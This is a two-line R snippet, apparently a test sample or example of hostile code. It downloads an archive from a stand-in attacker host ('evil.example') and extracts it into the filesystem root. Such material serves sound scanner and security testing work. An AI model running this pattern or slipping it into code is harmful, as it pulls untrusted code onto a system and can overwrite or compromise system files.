download.file("http://evil.example/a.tar.gz", "a.tar.gz")
untar("a.tar.gz", exdir = "/")
